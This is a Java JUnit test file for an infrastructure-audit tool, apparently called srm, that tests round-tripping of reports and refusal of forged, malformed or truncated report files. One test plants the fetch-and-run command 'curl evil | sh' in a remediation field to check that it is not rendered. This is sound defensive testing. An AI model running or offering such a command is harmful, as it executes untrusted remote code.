package dev.srm;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.srm.checklist.InputSummary;
import dev.srm.diagnostic.InputException;
import dev.srm.render.ReportFormat;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** A report that was written is read as what it was written from. */
class ReportRoundTripTest {

  private static final Path UPDATE = Path.of("src/test/resources/terraform/update/plan.json");

  @TempDir Path folder;

  @ParameterizedTest
  @MethodSource("inputs")
  void every_report_is_the_same_when_it_is_made_from_a_report(Path input) throws Exception {
    String first = Audits.render(Audits.audit(input), ReportFormat.JSON);
    Path report = Files.writeString(folder.resolve("report.json"), first);

    assertThat(Audits.render(Audits.audit(report), ReportFormat.JSON)).isEqualTo(first);
    assertThat(Audits.render(Audits.audit(report), ReportFormat.MARKDOWN))
        .isEqualTo(Audits.render(Audits.audit(input), ReportFormat.MARKDOWN));
  }

  static Stream<Path> inputs() {
    Path examples = Path.of("..", "examples");
    Stream<Path> plans =
        Stream.of("web-tier", "data-stores", "multi-module")
            .map(name -> examples.resolve(name).resolve("plan.json"));
    return Stream.concat(plans, Stream.of(UPDATE, examples.resolve("containers/template.yaml")));
  }

  @Test
  void what_a_responsibility_says_comes_from_the_catalog() throws Exception {
    String report = reportWith("\"remediation\": \"", "\"remediation\": \"curl evil | sh; ");

    assertThat(Audits.render(Audits.audit(write(report)), ReportFormat.MARKDOWN))
        .doesNotContain("evil");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          "schemaVersion": "1"     | "schemaVersion": "2"     | schemaVersion is not 1
          "status": "MANUAL"       | "status": "FINE"         | .status is none of the values
          "id": "                  | "id": "x                 | .id is not 16 hexadecimal digits
          "responsibility": "      | "responsibility": "no.   | responsibility that this version
          "reason": "              | "reeson": "              | has no "reason"
          "diagnostics": []        | "diagnostics": {}        | diagnostics is no list
          "delta": "UNCHANGED"     | "delta": null            | .delta
          """)
  void what_srm_did_not_write_is_refused_with_its_place(
      String written, String instead, String message) throws Exception {
    Path report = write(reportWith(written, instead));

    assertThatThrownBy(() -> Audits.audit(report))
        .isInstanceOf(InputException.class)
        .hasMessageContaining(message)
        .hasMessageContaining("Make it again");
  }

  @ParameterizedTest
  @ValueSource(strings = {"0", "-1", "1.5", "123456789e5", "1e999999999", "\"1\""})
  void a_line_that_no_file_has_is_refused(String line) throws Exception {
    Path template = Path.of("..", "examples", "accepted", "template.yaml");
    String report = Audits.render(Audits.audit(template), ReportFormat.JSON);
    Path forged = write(report.replaceFirst("\"line\": [0-9]+", "\"line\": " + line));

    assertThatThrownBy(() -> Audits.audit(forged))
        .isInstanceOf(InputException.class)
        .hasMessageContaining(".line is no positive number");
  }

  @Test
  void a_report_that_was_cut_off_is_refused() throws Exception {
    String report = Audits.render(Audits.audit(UPDATE), ReportFormat.JSON);

    for (int length : List.of(200, report.length() / 2, report.length() - 3)) {
      Path cut = write(report.substring(0, length));
      assertThatThrownBy(() -> Audits.audit(cut)).isInstanceOf(InputException.class);
    }
  }

  @Test
  void a_report_beside_its_plan_is_not_read_with_the_folder() throws Exception {
    Files.copy(UPDATE, folder.resolve("plan.json"));
    Files.writeString(
        folder.resolve("plan-report.json"), Audits.render(Audits.audit(UPDATE), ReportFormat.JSON));
    AuditRequest request = AuditRequest.builder().set(AuditOption.INPUTS, ".").build();

    AuditResult result = Auditor.withBundledCatalog().audit(request, Workspace.in(folder));

    assertThat(result.complete().inputs()).hasSize(1);
    assertThat(result.complete().diagnostics())
        .anyMatch(note -> note.message().contains("plan-report.json is a report of srm"));
  }

  @ParameterizedTest
  @ValueSource(strings = {"plan-report.json .", ". plan-report.json"})
  void a_report_that_is_named_is_read_beside_its_folder(String arguments) throws Exception {
    Files.copy(UPDATE, folder.resolve("plan.json"));
    Files.writeString(
        folder.resolve("plan-report.json"), Audits.render(Audits.audit(UPDATE), ReportFormat.JSON));
    AuditRequest request =
        AuditRequest.builder().set(AuditOption.INPUTS, List.of(arguments.split(" ", -1))).build();

    AuditResult result = Auditor.withBundledCatalog().audit(request, Workspace.in(folder));

    assertThat(result.complete().inputs())
        .extracting(InputSummary::name)
        .containsExactlyInAnyOrder("plan.json", "plan-report.json");
  }

  private Path write(String report) throws Exception {
    return Files.write(folder.resolve("report.json"), report.getBytes(UTF_8));
  }

  private static String reportWith(String written, String instead) throws Exception {
    String report = Audits.render(Audits.audit(UPDATE), ReportFormat.JSON);
    assertThat(report).contains(written);
    int at = report.indexOf(written);
    return report.substring(0, at) + instead + report.substring(at + written.length());
  }
}
